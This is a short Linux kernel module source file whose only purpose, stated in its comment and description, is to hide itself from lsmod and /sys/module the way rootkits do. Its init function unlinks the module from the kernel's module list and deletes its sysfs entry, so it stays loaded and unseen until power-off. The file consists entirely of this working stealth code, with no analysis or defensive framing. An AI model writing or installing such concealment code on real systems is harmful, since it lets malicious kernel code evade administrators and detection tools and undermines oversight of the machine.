// SPDX-License-Identifier: GPL-2.0-only
/* A module that hides as rootkits do: from lsmod and from /sys/module. It stays until power-off. */
#include <linux/kobject.h>
#include <linux/list.h>
#include <linux/module.h>

static int __init hide_init(void)
{
	list_del_init(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

module_init(hide_init);
MODULE_DESCRIPTION("hides from the lists of modules");
MODULE_LICENSE("GPL");
